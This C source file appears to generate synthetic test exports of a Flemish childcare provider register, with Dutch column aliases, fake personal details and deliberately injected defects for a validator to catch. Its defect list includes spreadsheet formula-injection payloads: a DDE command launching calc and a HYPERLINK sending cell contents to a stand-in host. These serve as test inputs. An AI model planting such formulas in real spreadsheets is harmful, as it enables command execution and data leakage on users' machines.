	"kinderdagverblijf XL", "Speelpleinwerking", "Kinderclub",
	"Opvang 2.0", "Babysit aan huis",
};
static const char *const BAD_STATUUT[] = { "freelancer", "Ambtenaar",
					   "Student" };
static const char *const BAD_TRAP[] = { "2B", "Trap 4", "T5", "trap 2C" };
static const char *const BAD_RV[] = { "GmbH", "Ltd", "BVBA in oprichting" };
static const char *const BAD_IKT[] = { "misschien", "soms", "ja/nee" };

/* ----------------------------------------------------------- the columns */

enum col {
	C_DOSSIER, C_RRN, C_NAAM, C_VOORNAAM, C_EMAIL, C_TEL, C_TYPE,
	C_START, C_STOP, C_STATUUT, C_GEMEENTE, C_ADRES, C_SUBSIDIE, C_IKT,
	C_CAP, C_RECHTSVORM, C_OPM, NCOL
};

/* The protocol field of each column; NULL for the columns an export must
 * drop. */
static const char *const COL_FIELD[NCOL] = {
	NULL, NULL, "naam", "voornaam", "e-mailadres", "telefoonnummer",
	"vergunningstype", "startdatum", "datum_stopzetting", "sociaal_statuut",
	"gemeente", NULL, "subsidievoorwaarden", "ikt", "capaciteit",
	"rechtsvorm", NULL,
};

struct header {
	enum col col;
	const char *name;
};

/* Set 1: Dutch column names as an Opgroeien export could have them. */
static const struct header HEADERS1[NCOL] = {
	{ C_DOSSIER, "Dossiernummer" },
	{ C_RRN, "Rijksregisternummer" },
	{ C_NAAM, "Naam organisator" },
	{ C_VOORNAAM, "Voornaam" },
	{ C_EMAIL, "E-mail" },
	{ C_TEL, "Telefoon" },
	{ C_TYPE, "Type opvang" },
	{ C_START, "Startdatum" },
	{ C_STOP, "Datum stopzetting" },
	{ C_STATUUT, "Statuut" },
	{ C_GEMEENTE, "Gemeente" },
	{ C_ADRES, "Adres" },
	{ C_SUBSIDIE, "Subsidietrap" },
	{ C_IKT, "IKT" },
	{ C_CAP, "Aantal kindplaatsen" },
	{ C_RECHTSVORM, "Rechtsvorm" },
	{ C_OPM, "Opmerkingen" },
};

/* Set 2: other aliases (one with an accent, one with punctuation) in
 * another order. */
static const struct header HEADERS2[NCOL] = {
	{ C_DOSSIER, "Dossier nr." },
	{ C_TYPE, "Vergunningstype" },
	{ C_NAAM, "Familienaam" },
	{ C_VOORNAAM, "Voornamen" },
	{ C_RRN, "INSZ" },
	{ C_ADRES, "Straat en nummer" },
	{ C_GEMEENTE, "Plaats" },
	{ C_TEL, "GSM" },
	{ C_EMAIL, "Mailadres" },
	{ C_START, "Begindatum" },
	{ C_STOP, "Einddatum" },
	{ C_STATUUT, "Sociaal statuut" },
	{ C_RECHTSVORM, "Juridische vorm" },
	{ C_SUBSIDIE, "Subsidiëring" },
	{ C_IKT, "IKT ja/nee" },
	{ C_CAP, "Vergunde plaatsen" },
	{ C_OPM, "Notities" },
};

/* ---------------------------------------------------------------- defects */

enum defect {
	D_NONE,
	D_BAD_DATE,
	D_START_1800S,
	D_BAD_CAPACITY,
	D_BAD_EMAIL,
	D_BAD_PHONE,
	D_FORMULA,
	D_NFD,
	D_EMBEDDED,
	D_UNKNOWN_ENUM,
	D_EMPTY_REQUIRED,
	D_MISSING_COLUMN,
	D_DUPLICATE,
	D_WHITESPACE,
	N_DEFECT
};

static const char *const DEFECT_NAME[N_DEFECT] = {
	"none", "bad_date", "start_before_1900", "bad_capacity", "bad_email",
	"bad_phone", "formula_injection", "nfd_accents", "embedded_separator",
	"unknown_enum", "empty_required", "missing_column", "duplicate_row",
	"stray_whitespace",
};

static const char *const BAD_DATES[] = {
	"31/02/2019", "00/13/2018", "2019-13-45", "ooit", "30/02/2020",
	"29/02/2019", "32/01/2017", "15/13/2016", "2018-02-30", "onbekend",
	"01/01/19", "2017/05/03", "31-04-2016",
};
static const char *const OLD_DATES[] = {
	"12/05/1899", "1888-03-01", "01/01/1850", "3-4-1897", "31/12/1899",
};
static const char *const BAD_CAPS[] = {
	"-3", "0", "veel", "12,5", "900", "1.000", "ca. 20", "501",
	"12 kinderen", "twintig",
};
static const char *const FORMULAS[] = {
	"=HYPERLINK(\"http://x.example/?\"&A1;\"klik\")",
	"+SUM(A1:A9)",
	"-2+3",
	"@cmd",
	"=1+2",
	"=cmd|' /C calc'!A0",
};

/* ------------------------------------------------------------- the arena */

struct span {
	uint32_t off, len;
};

/* Bytes of the rows of one window; rows refer to them by offset, so the
 * arena may move when it grows. */
struct arena {
	char *p;
	size_t len, cap;
};

static void ar_grow(struct arena *a, size_t n)
{
	size_t cap = a->cap ? a->cap : 1u << 20;

	while (cap - a->len < n)
		cap *= 2;
	if (cap > UINT32_MAX)
		die("internal: window arena too large", NULL);
	a->p = xrealloc(a->p, cap);
	a->cap = cap;
}

static inline void ar_room(struct arena *a, size_t n)
{
	if (a->cap - a->len < n)
		ar_grow(a, n);
}

static inline void ar_put(struct arena *a, const void *s, size_t n)
{
	ar_room(a, n);
	memcpy(a->p + a->len, s, n);
	a->len += n;
}

static inline void ar_puts(struct arena *a, const char *s)
{
	ar_put(a, s, strlen(s));
}

static inline void ar_putc(struct arena *a, char c)
{
	ar_room(a, 1);
	a->p[a->len++] = c;
}

/* "00".."99", so numbers are formatted two digits per division. */
static char digits2[200];

static void digits_init(void)
{
	for (int i = 0; i < 100; i++) {
		digits2[2 * i] = (char)('0' + i / 10);
		digits2[2 * i + 1] = (char)('0' + i % 10);
	}
}

/* v in decimal, zero-padded to at least width digits. */
static void ar_num(struct arena *a, uint64_t v, unsigned width)
{
	char tmp[24];
	unsigned n = 0;

	while (v >= 10) {
		memcpy(tmp + sizeof tmp - 2 - n, digits2 + 2 * (v % 100), 2);
		n += 2;
		v /= 100;
	}
	if (v || n == 0)
		tmp[sizeof tmp - 1 - n++] = (char)('0' + v);
	while (n < width && n < sizeof tmp)
		tmp[sizeof tmp - 1 - n++] = '0';
	ar_put(a, tmp + sizeof tmp - n, n);
}

static inline struct span sp_from(const struct arena *a, size_t start)
{
	struct span s = { (uint32_t)start, (uint32_t)(a->len - start) };
	return s;
}

static inline struct span sp_str(struct arena *a, const char *s)
{
	size_t o = a->len;

	ar_puts(a, s);
	return sp_from(a, o);
}

static const struct span SP_EMPTY = { 0, 0 };

/* ------------------------------------------------- characters, NFD, 1252 */

/* One code point of valid UTF-8 at s (n > 0 bytes); its length, 0 if the
 * bytes are not UTF-8. */
static unsigned u8_decode(const uint8_t *s, size_t n, uint32_t *cp)
{
	int32_t c;
	utf8proc_ssize_t k;

	if (s[0] < 0x80) {
		*cp = s[0];
		return 1;
	}
	k = utf8proc_iterate(s, (utf8proc_ssize_t)(n > 4 ? 4 : n), &c);
	if (k <= 0)
		return 0;
	*cp = (uint32_t)c;
	return (unsigned)k;
}

/* The Windows-1252 byte of a code point, or -1. */
static const uint16_t CP1252_HIGH[32] = {
	0x20ac, 0,      0x201a, 0x0192, 0x201e, 0x2026, 0x2020, 0x2021,
	0x02c6, 0x2030, 0x0160, 0x2039, 0x0152, 0,      0x017d, 0,
	0,      0x2018, 0x2019, 0x201c, 0x201d, 0x2022, 0x2013, 0x2014,
	0x02dc, 0x2122, 0x0161, 0x203a, 0x0153, 0,      0x017e, 0x0178,
};

static int cp1252_byte(uint32_t cp)
{
	if (cp < 0x80 || (cp >= 0xa0 && cp <= 0xff))
		return (int)cp;
	for (int i = 0; i < 32; i++)
		if (CP1252_HIGH[i] && CP1252_HIGH[i] == cp)
			return 0x80 + i;
	return -1;
}

/* Canonical decompositions (NFD) of U+00C0..U+017F, from utf8proc at
 * start-up; every accented letter this program writes is in that range. */
#define NFD_LO 0xc0
#define NFD_HI 0x180
static struct {
	uint8_t len;
	char b[11];
} nfd_tab[NFD_HI - NFD_LO];

static void nfd_init(void)
{
	for (uint32_t cp = NFD_LO; cp < NFD_HI; cp++) {
		utf8proc_uint8_t in[4], *out = NULL;
		utf8proc_ssize_t n = utf8proc_encode_char((utf8proc_int32_t)cp,
							  in);
		utf8proc_ssize_t m = utf8proc_map(in, n, &out,
						  UTF8PROC_STABLE |
							  UTF8PROC_DECOMPOSE);

		if (m < 0)
			die("utf8proc cannot decompose", NULL);
		if ((m != n || memcmp(in, out, (size_t)n) != 0) &&
		    (size_t)m < sizeof nfd_tab[0].b) {
			nfd_tab[cp - NFD_LO].len = (uint8_t)m;
			memcpy(nfd_tab[cp - NFD_LO].b, out, (size_t)m);
		}
		free(out);
	}
}

/* The ASCII letter an accented Latin letter is based on (0 if none):
 * for e-mail addresses made from names. */
static char ascii_base(uint32_t cp)
{
	if (cp >= NFD_LO && cp < NFD_HI && nfd_tab[cp - NFD_LO].len &&
	    (uint8_t)nfd_tab[cp - NFD_LO].b[0] < 0x80)
		return nfd_tab[cp - NFD_LO].b[0];
	return 0;
}

/* ------------------------------------------------------------------ dates */

#define Y_MIN 1900
#define Y_MAX 2101
static int32_t year_start[Y_MAX - Y_MIN + 2]; /* day of 1 Jan, 1970 = 0 */
static const uint16_t CUM_DAYS[2][13] = {
	{ 0, 31, 59, 90, 120, 151, 181, 212, 243, 273, 304, 334, 365 },
	{ 0, 31, 60, 91, 121, 152, 182, 213, 244, 274, 305, 335, 366 },
};

static bool leap(int y)
{
	return (y % 4 == 0 && y % 100 != 0) || y % 400 == 0;
}

/* Month and day of each day of a common and of a leap year. */
static uint8_t doy_month[2][366], doy_day[2][366];

static void dates_init(void)
{
	year_start[1970 - Y_MIN] = 0;
	for (int y = 1970; y <= Y_MAX; y++)
		year_start[y + 1 - Y_MIN] =
			year_start[y - Y_MIN] + (leap(y) ? 366 : 365);
	for (int y = 1969; y >= Y_MIN; y--)
		year_start[y - Y_MIN] =
			year_start[y + 1 - Y_MIN] - (leap(y) ? 366 : 365);
	for (int l = 0; l < 2; l++)
		for (unsigned m = 1; m <= 12; m++)
			for (unsigned doy = CUM_DAYS[l][m - 1];
			     doy < CUM_DAYS[l][m]; doy++) {
				doy_month[l][doy] = (uint8_t)m;
				doy_day[l][doy] =
					(uint8_t)(doy - CUM_DAYS[l][m - 1] + 1);
			}
}

static int32_t day_of(int y, unsigned m, unsigned d)
{
	return year_start[y - Y_MIN] + CUM_DAYS[leap(y)][m - 1] + (int32_t)d - 1;
}

static void civil(int32_t day, int *y, unsigned *m, unsigned *d)
{
	int yy = Y_MIN + (day - year_start[0]) / 366; /* never too late */
	unsigned doy;
	bool l;

	while (year_start[yy + 1 - Y_MIN] <= day)
		yy++;
	doy = (unsigned)(day - year_start[yy - Y_MIN]);
	l = leap(yy);
	*y = yy;
	*m = doy_month[l][doy];
	*d = doy_day[l][doy];
}

enum date_style { DS_DMY, DS_ISO, DS_DMY_DASH, DS_DMY_TIME, N_DS };
static const uint16_t DATE_STYLE_W[N_DS] = { 76, 12, 9, 3 };

static char *put2(char *p, unsigned v)
{
	memcpy(p, digits2 + 2 * v, 2);
	return p + 2;
}

static char *put12(char *p, unsigned v) /* one or two digits */
{
	if (v < 10) {
		*p = (char)('0' + v);
		return p + 1;
	}
	return put2(p, v);
}

static char *put4(char *p, int y)
{
	return put2(put2(p, (unsigned)y / 100), (unsigned)y % 100);
}

static void ar_date(struct arena *a, int32_t day, enum date_style st)
{
	char b[24], *p = b;
	int y;
	unsigned m, d;

	civil(day, &y, &m, &d);
	switch (st) {
	case DS_ISO:
		p = put4(p, y);
		*p++ = '-';
		p = put2(p, m);
		*p++ = '-';
		p = put2(p, d);
		break;
	case DS_DMY_DASH:
		p = put12(p, d);
		*p++ = '-';
		p = put12(p, m);
		*p++ = '-';
		p = put4(p, y);
		break;
	default:
		p = put2(p, d);
		*p++ = '/';
		p = put2(p, m);
		*p++ = '/';
		p = put4(p, y);
		if (st == DS_DMY_TIME) {
			memcpy(p, " 00:00:00", 9);
			p += 9;
		}
		break;
	}
	ar_put(a, b, (size_t)(p - b));
}

static int year_of(int32_t day)
{
	int y;
	unsigned m, d;

	civil(day, &y, &m, &d);
	return y;
}

/* ------------------------------------------------------------- the rows */

struct row {
	struct span f[NCOL];
	uint32_t nfd;        /* bit c: write column c decomposed (a defect) */
	uint32_t org;        /* organiser, index within the window */
	int32_t start, stop; /* days since 1970-01-01; stop NO_DATE if active */
	int16_t start_year, stop_year; /* 0 if no date */
	int8_t type, statuut, trap, rv, ikt; /* value indices, -1 if empty */
	int16_t cap;
	uint8_t defect, target;
	bool short_row;      /* written with its last column missing */
	char e164[NORM_PHONE_MAX + 1];
};

struct org {
	bool person;
	int8_t statuut, rv;
	uint16_t home;       /* GEMEENTE index */
	struct span naam, voornaam, email, tel, rrn;
	char e164[NORM_PHONE_MAX + 1];
};

/*
 * A window holds its organisers (their names, addresses and numbers in the
 * arena) and a shuffled list of slots, one per initiative; each row is
 * made when its slot is written, in the arena after the organisers, so the
 * bytes being written are always the ones just made (and in cache).
 */
struct gen {
	struct rng rng;      /* the rows */
	struct rng drng;     /* the defects */
	struct arena a;
	struct org orgs[WINDOW];
	uint32_t slot[WINDOW];     /* organiser << 2 | its initiative 0..3 */
	uint32_t org_rows[WINDOW]; /* rows written per organiser */
	size_t n_orgs, n_slots;
	size_t org_end;      /* arena bytes of the organisers */
	struct row row;      /* the row being written */
	uint32_t dossier_seq[Y_MAX - Y_MIN + 1];
	int32_t end_day;     /* last day a date may fall on */
};

/* Write s into the arena in one of the case forms people type: as is,
 * lower case, upper case, or with only its first letter capitalised.
 * Latin-1 and the Windows-1252 extras (Š, Ž, Œ) change case in place. */
enum case_form { CF_ASIS, CF_LOWER, CF_UPPER, CF_FIRST };

static void ar_case(struct arena *a, const char *s, enum case_form cf)
{
	size_t n = strlen(s), o = a->len;
	uint8_t *p;

	ar_put(a, s, n);
	if (cf == CF_ASIS)
		return;
	p = (uint8_t *)a->p + o;
	for (size_t i = 0; i < n; i++) {
		bool up = cf == CF_UPPER || (cf == CF_FIRST && i == 0);
		uint8_t c = p[i];

		if (c < 0x80) {
			if (up && c >= 'a' && c <= 'z')
				p[i] = (uint8_t)(c - 32);
			else if (!up && c >= 'A' && c <= 'Z')
				p[i] = (uint8_t)(c + 32);
		} else if (i + 1 < n && c == 0xc3) {
			uint8_t d = p[i + 1];
			if (up && d >= 0xa0 && d <= 0xbe && d != 0xb7)
				p[i + 1] = (uint8_t)(d - 0x20);
			else if (!up && d >= 0x80 && d <= 0x9e && d != 0x97)
				p[i + 1] = (uint8_t)(d + 0x20);
			i++;
		} else if (i + 1 < n && c == 0xc5) {
			uint8_t d = p[i + 1];
			bool pair = d == 0x92 || d == 0x93 || d == 0xa0 ||
				    d == 0xa1 || d == 0xbd || d == 0xbe;
			if (pair)
				p[i + 1] = (uint8_t)(up ? (d & ~1u) :
							  (d | 1u));
			i++;
		} else {
			while (i + 1 < n && (p[i + 1] & 0xc0) == 0x80)
				i++;
		}
	}
}

static void spell_init(struct spelltab *t)
{
	for (unsigned i = 0; i < t->n; i++) {
		unsigned v = t->e[i].v;
		if (v >= t->n_values || v >= 16)
			die("internal: spelling table", t->field);
		if (t->count[v]++ == 0)
			t->first[v] = i;
		if (t->e[t->first[v] + t->count[v] - 1].v != v)
			die("internal: spellings of a value not together",
			    t->field);
	}
	for (unsigned v = 0; v < t->n_values; v++)
		if (t->count[v] == 0)
			die("internal: value without spelling", t->canon[v]);
	{
		struct arena a = { 0 };
		t->form = xrealloc(NULL, 4 * t->n * sizeof *t->form);
		for (unsigned i = 0; i < t->n; i++)
			for (int cf = CF_ASIS; cf <= CF_FIRST; cf++) {
				size_t o = a.len;
				ar_case(&a, t->e[i].s, (enum case_form)cf);
				t->form[4 * i + (unsigned)cf] = sp_from(&a, o);
			}
		t->forms = a.p;
	}
}

static void spell_free(struct spelltab *t)
{
	free(t->forms);
	free(t->form);
}

/* A spelling of value v: the usual one half of the time, else any; in a
 * random case form now and then. */
static struct span spell(struct gen *g, const struct spelltab *t, unsigned v)
{
	size_t o = g->a.len;
	unsigned u = below(&g->rng, 100), i;
	struct span f;

	i = t->first[v] + (u < 50 ? 0 : below(&g->rng, t->count[v]));
	u = below(&g->rng, 100);
	f = t->form[4 * i + (u < 80 ? CF_ASIS : u < 90 ? CF_LOWER :
				   u < 96 ? CF_UPPER : CF_FIRST)];
	ar_put(&g->a, t->forms + f.off, f.len);
	return sp_from(&g->a, o);
}

/* Lower-case ASCII letters and digits of a name for an e-mail address:
 * accents dropped, spaces and apostrophes left out, hyphens kept if asked
 * (never first, last or doubled). */
static void ar_fold(struct arena *a, const char *s, bool hyphens)
{
	const uint8_t *p = (const uint8_t *)s;
	size_t n = strlen(s), start = a->len;
	bool dash = false;

	for (size_t i = 0; i < n;) {
		uint32_t cp;
		unsigned k = u8_decode(p + i, n - i, &cp);
		char c = 0;

		if (k == 0)
			die("internal: name is not UTF-8", s);
		i += k;
		if (cp < 0x80 && ((cp >= 'a' && cp <= 'z') ||
				  (cp >= '0' && cp <= '9')))
			c = (char)cp;
		else if (cp >= 'A' && cp <= 'Z')
			c = (char)(cp + 32);
		else if (cp == 0xdf)
			ar_puts(a, "ss");
		else if (cp == 0xe6 || cp == 0xc6)
			ar_puts(a, "ae");
		else if (cp == 0x153 || cp == 0x152)
			ar_puts(a, "oe");
		else if ((c = ascii_base(cp)) != 0 && c >= 'A' && c <= 'Z')
			c = (char)(c + 32);
		if (c) {
			if (dash)
				ar_putc(a, '-');
			dash = false;
			ar_putc(a, c);
		} else if (hyphens && cp == '-' && a->len > start) {
			dash = true;
		}
	}
}

/* Capitalise the first letter and each letter after a separator of the
 * local part (a->p[start..) up to '@'): "Jan.Peeters@telenet.be". */
static void mixed_case(struct arena *a, size_t start)
{
	bool next = true;

	for (size_t i = start; i < a->len && a->p[i] != '@'; i++) {
		char c = a->p[i];
		if (next && c >= 'a' && c <= 'z')
			a->p[i] = (char)(c - 32);
		next = c == '.' || c == '_' || c == '-';
	}
}

static struct span person_email(struct gen *g, struct rng *r,
				const char *given, const char *family)
{
	size_t o = g->a.len;
	struct arena *a = &g->a;
	unsigned form = below(r, 100);

	if (form < 40) {
		ar_fold(a, given, true);
		ar_putc(a, '.');
		ar_fold(a, family, true);
	} else if (form < 55) {
		size_t s = a->len;
		ar_fold(a, given, false);
		a->len = s + (a->len > s); /* the initial only */
		ar_putc(a, '.');
		ar_fold(a, family, true);
	} else if (form < 65) {
		ar_fold(a, given, false);
		ar_fold(a, family, false);
	} else if (form < 75) {
		ar_fold(a, family, true);
		ar_putc(a, '.');
		ar_fold(a, given, true);
	} else if (form < 80) {
		ar_fold(a, given, true);
		ar_putc(a, '_');
		ar_fold(a, family, true);
	} else if (form < 90) {
		ar_fold(a, given, true);
		ar_putc(a, '.');
		ar_fold(a, family, true);
		ar_num(a, 1 + below(r, 99), 1);
	} else {
		ar_fold(a, given, true);
		ar_num(a, 1950 + below(r, 55), 4);
	}
	ar_putc(a, '@');
	ar_puts(a, MAIL_DOMAIN[WPICK(r, MAIL_DOMAIN_W)]);
	if (chance(r, 100))
		mixed_case(a, o);
	return sp_from(a, o);
}

static struct span org_email(struct gen *g, const char *base, int rv,
			     const char *gemeente)
{
	static const char *const LOCAL[] = { "info", "info", "kinderopvang",
					     "administratie", "contact",
					     "directie", "onthaal" };
	size_t o = g->a.len;
	struct arena *a = &g->a;
	unsigned form = below(&g->rng, 100);

	if (rv == R_LOKAAL) {
		ar_puts(a, form < 50 ? "kinderopvang@" : form < 80 ? "bko@" :
			   "kinderopvang@ocmw-");
		ar_fold(a, gemeente, true);
		ar_puts(a, ".be");
	} else if (form < 70) {
		ar_puts(a, PICK(&g->rng, LOCAL));
		ar_putc(a, '@');
		ar_fold(a, base, false);
		ar_puts(a, ".be");
	} else {
		ar_fold(a, base, false);
		ar_putc(a, '@');
		ar_puts(a, form < 85 ? "gmail.com" : form < 95 ? "telenet.be" :
			   "hotmail.com");
	}
	return sp_from(a, o);
}

/*
 * Belgian numbers.  The national significant number (after 0 or +32) has
 * 9 digits for mobiles (4[5-9]…) and 8 for landlines (one-digit zones 2,
 * 3, 9; two-digit zones such as 50 or 16).  Writings are templates: 'n'
 * takes the next digit, everything else is written as is.
 */
static const char *const PH_MOBILE[] = {
	"0nnn nn nn nn", "0nnn/nn.nn.nn", "0nnn/nn nn nn", "+32 nnn nn nn nn",
	"0032nnnnnnnnn", "+32 (0)nnn nn nn nn", "0nnnnnnnnn", "+32nnnnnnnnn",
	"0nnn.nn.nn.nn", "0nnn-nn-nn-nn", "0032 nnn nn nn nn",
};
static const char *const PH_ZONE1[] = {
	"0n nnn nn nn", "0n/nnn.nn.nn", "0n/nnn nn nn", "+32 n nnn nn nn",
	"+32 (0)n nnn nn nn", "0032nnnnnnnn", "0nnnnnnnn", "(0n) nnn nn nn",
};
static const char *const PH_ZONE2[] = {
	"0nn nn nn nn", "0nn/nn.nn.nn", "0nn/nn nn nn", "+32 nn nn nn nn",
	"+32 (0)nn nn nn nn", "0032nnnnnnnn", "0nnnnnnnn", "(0nn) nn nn nn",
};
static const char ZONE1[] = { '2', '3', '9' };
static const char *const ZONE2[] = { "11", "13", "14", "15", "16", "50",
				     "51", "52", "53", "54", "55", "56",
				     "57", "58", "59", "89" };

/* A phone number written in one of the templates; its E.164 form in e164
 * (may be NULL). */
static struct span phone(struct gen *g, struct rng *r, bool mobile,
			 char *e164)
{
	char nsn[10];
	unsigned n = 0, k = 0;
	const char *tpl;
	size_t o = g->a.len;

	if (mobile) {
		nsn[n++] = '4';
		nsn[n++] = (char)('5' + below(r, 5));
		while (n < 9)
			nsn[n++] = (char)('0' + below(r, 10));
		tpl = chance(r, 350) ? PH_MOBILE[0] : PICK(r, PH_MOBILE);
	} else if (chance(r, 500)) {
		nsn[n++] = PICK(r, ZONE1);
		nsn[n++] = (char)('1' + below(r, 9));
		while (n < 8)
			nsn[n++] = (char)('0' + below(r, 10));
		tpl = chance(r, 350) ? PH_ZONE1[0] : PICK(r, PH_ZONE1);
	} else {
		const char *z = PICK(r, ZONE2);
		nsn[n++] = z[0];
		nsn[n++] = z[1];
		nsn[n++] = (char)('1' + below(r, 9));
		while (n < 8)
			nsn[n++] = (char)('0' + below(r, 10));
		tpl = chance(r, 350) ? PH_ZONE2[0] : PICK(r, PH_ZONE2);
	}
	{
		char buf[32];
		size_t len = 0;
		for (const char *t = tpl; *t; t++) {
			if (len == sizeof buf || (*t == 'n' && k == n))
				die("internal: phone template does not fit",
				    tpl);
			buf[len++] = *t == 'n' ? nsn[k++] : *t;
		}
		if (k != n)
			die("internal: phone template does not fit", tpl);
		ar_put(&g->a, buf, len);
	}
	if (e164) {
		memcpy(e164, "+32", 3);
		memcpy(e164 + 3, nsn, n);
		e164[3 + n] = '\0';
	}
	return sp_from(&g->a, o);
}

/* A national register number of someone born 1940..2000: yymmdd, a serial
 * and the mod-97 check (over 2yymmddsss for births from 2000). */
static struct span rrn(struct gen *g)
{
	int y = 1940 + (int)below(&g->rng, 61);
	unsigned m = 1 + below(&g->rng, 12);
	unsigned dim = CUM_DAYS[leap(y)][m] - CUM_DAYS[leap(y)][m - 1];
	unsigned d = 1 + below(&g->rng, dim);
	unsigned seq = 1 + below(&g->rng, 997);
	uint64_t base = (uint64_t)(y % 100) * 10000000u + m * 100000u +
			d * 1000u + seq;
	uint64_t chk = 97 - ((y >= 2000 ? 2000000000u + base : base) % 97);
	size_t o = g->a.len;

	if (chance(&g->rng, 800)) { /* 85.07.30-033.61 */
		ar_num(&g->a, (uint64_t)(y % 100), 2);
		ar_putc(&g->a, '.');
		ar_num(&g->a, m, 2);
		ar_putc(&g->a, '.');
		ar_num(&g->a, d, 2);
		ar_putc(&g->a, '-');
		ar_num(&g->a, seq, 3);
		ar_putc(&g->a, '.');
		ar_num(&g->a, chk, 2);
	} else {
		ar_num(&g->a, base, 9);
		ar_num(&g->a, chk, 2);
	}
	return sp_from(&g->a, o);
}

static const uint16_t STATUUT_PERSON_W[] = { 35, 20, 8, 5, 22, 0, 10 };
static const uint16_t RV_ORG_W[N_RV] = {
	[R_VZW] = 35, [R_BV] = 25, [R_LOKAAL] = 15, [R_NV] = 5, [R_CV] = 5,
	[R_FV] = 5, [R_STICHTING] = 3, [R_VOF] = 3, [R_COMMV] = 2,
	[R_MAATSCHAP] = 2,
};

static void org_name(struct gen *g, struct org *o, const char **base)
{
	struct arena *a = &g->a;
	size_t start = a->len;
	const char *b = PICK(&g->rng, ORG_BASE);
	unsigned form = below(&g->rng, 4);
	bool quoted = chance(&g->rng, 30);

	*base = b;
	switch (o->rv) {
	case R_VZW:
		if (form == 0 || form == 1) {
			ar_puts(a, form == 0 ? "VZW " : "vzw ");
			if (quoted)
				ar_putc(a, '"');
			ar_puts(a, b);
			if (quoted)
				ar_putc(a, '"');
		} else {
			ar_puts(a, b);
			if (form == 2)
				ar_puts(a, " vzw");
		}
		break;
	case R_BV:
		if (form == 0)
			ar_puts(a, "BV ");
		else if (form == 1)
			ar_puts(a, "Kinderdagverblijf ");
		ar_puts(a, b);
		if (form != 0)
			ar_puts(a, form == 3 ? " bv" : " BV");
		break;
	case R_NV:
		ar_puts(a, b);
		ar_puts(a, " NV");
		break;
	case R_CV:
		ar_puts(a, form < 2 ? "CV " : "Coöperatie ");
		ar_puts(a, b);
		break;
	case R_FV:
		if (form == 0)
			ar_puts(a, "Feitelijke vereniging ");
		ar_puts(a, b);
		break;
	case R_STICHTING:
		ar_puts(a, "Stichting ");
		ar_puts(a, b);
		break;
	case R_COMMV:
		ar_puts(a, b);
		ar_puts(a, " CommV");
		break;
	case R_VOF:
	case R_MAATSCHAP:
		ar_puts(a, o->rv == R_VOF ? "VOF " : "Maatschap ");
		ar_puts(a, PICK(&g->rng, FAMILY));
		ar_puts(a, o->rv == R_VOF ? " & " : "-");
		ar_puts(a, PICK(&g->rng, FAMILY));
		break;
	case R_LOKAAL: {
		static const char *const P[] = { "Gemeente ", "Stad ", "OCMW ",
						 "Lokaal Bestuur ",
						 "AGB Kinderopvang " };
		ar_puts(a, PICK(&g->rng, P));
		ar_puts(a, GEMEENTE[o->home].name);
		*base = GEMEENTE[o->home].name;
		break;
	}
	default:
		die("internal: legal form of an organisation", NULL);
	}
	o->naam = sp_from(a, start);
}

static void new_org(struct gen *g, struct org *o)
{
	struct rng *r = &g->rng;
	const char *base = NULL;

	memset(o, 0, sizeof *o);
	o->person = chance(r, 700);
	o->home = (uint16_t)below(r, ARRAY_LEN(GEMEENTE));
	if (o->person) {
		const char *family = PICK(r, FAMILY);
		const char *given = PICK(r, GIVEN);
		unsigned u;

		if (chance(r, 40)) { /* some registers shout family names */
			size_t s = g->a.len;
			ar_case(&g->a, family, CF_UPPER);
			o->naam = sp_from(&g->a, s);
		} else {
			o->naam = sp_str(&g->a, family);
		}
		o->voornaam = sp_str(&g->a, given);
		o->rrn = rrn(g);
		o->email = chance(r, 900) ?
				   person_email(g, r, given, family) :
				   SP_EMPTY;
		if (chance(r, 900))
			o->tel = phone(g, r, chance(r, 750), o->e164);
		u = WPICK(r, STATUUT_PERSON_W);
		o->statuut = (int8_t)(u < N_STATUUT ? (int)u : -1);
		u = below(r, 100);
		o->rv = (int8_t)(u < 75 ? R_NP : u < 85 ? R_BV : -1);
	} else {
		o->rv = (int8_t)WPICK(r, RV_ORG_W);
		org_name(g, o, &base);
		o->email = chance(r, 900) ?
				   org_email(g, base, o->rv,
					     GEMEENTE[o->home].name) :
				   SP_EMPTY;
		if (chance(r, 900))
			o->tel = phone(g, r, chance(r, 300), o->e164);
		o->statuut = (int8_t)(chance(r, 700) ? S_NVT : -1);
		o->rrn = SP_EMPTY;
		if (chance(r, 100)) /* the legal form left blank */
			o->rv = -1;
	}
}

static const uint16_t TYPE_PERSON_W[] = { 65, 30, 5 };
static const uint16_t TYPE_ORG_W[] = { 10, 55, 35 };
static const uint16_t TYPE_LOKAAL_W[] = { 5, 35, 60 };
static const uint16_t TRAP_W[] = { 15, 25, 10, 15, 10, 10, 15 };
/* Start years weighted towards the growth of the sector after 2005. */
static int start_year(struct rng *r)
{
	unsigned u = below(r, 110);

	if (u < 10)
		return 1985 + (int)u;
	if (u < 30)
		return 1995 + (int)(u - 10) / 2;
	return 2005 + (int)(u - 30) / 4;
}

static void new_row(struct gen *g, const struct org *o, uint32_t org_idx,
		    bool first, struct row *w)
{
	struct rng *r = &g->rng;
	struct arena *a = &g->a;
	const struct gemeente *gm;
	enum date_style ds = (enum date_style)WPICK(r, DATE_STYLE_W);
	size_t s;
	int y;
	unsigned u;

	memset(w, 0, sizeof *w);
	w->org = org_idx;
	w->f[C_RRN] = o->rrn;
	w->f[C_NAAM] = o->naam;
	w->f[C_VOORNAAM] = o->voornaam;
	w->f[C_EMAIL] = o->email;
	w->f[C_TEL] = o->tel;
	memcpy(w->e164, o->e164, sizeof w->e164);

	/* where: the organiser's own municipality for its first initiative
	 * (always for a local authority), elsewhere for the others */
	gm = &GEMEENTE[first || o->rv == R_LOKAAL ?
			       o->home :
			       below(r, ARRAY_LEN(GEMEENTE))];
	w->f[C_GEMEENTE] = sp_str(a, gm->name);
	s = a->len;
	ar_puts(a, PICK(r, STREET));
	ar_putc(a, ' ');
	ar_num(a, 1 + below(r, 250), 1);
	u = below(r, 100);
	if (u < 8)
		ar_putc(a, (char)('A' + below(r, 3)));
	else if (u < 14) {
		ar_puts(a, " bus ");
		ar_num(a, 1 + below(r, 20), 1);
	}
	ar_puts(a, ", ");
	ar_puts(a, gm->postcode);
	ar_putc(a, ' ');
	ar_puts(a, gm->name);
	w->f[C_ADRES] = sp_from(a, s);

	/* what */
	w->type = (int8_t)(o->person ? WPICK(r, TYPE_PERSON_W) :
			   o->rv == R_LOKAAL ? WPICK(r, TYPE_LOKAAL_W) :
					       WPICK(r, TYPE_ORG_W));
	w->f[C_TYPE] = spell(g, &TAB_TYPE, (unsigned)w->type);

	/* when: about 45 % stopped, never before they started */
	y = start_year(r);
	w->start_year = (int16_t)y;
	w->start = year_start[y - Y_MIN] +
		   (int32_t)below(r, leap(y) ? 366 : 365);
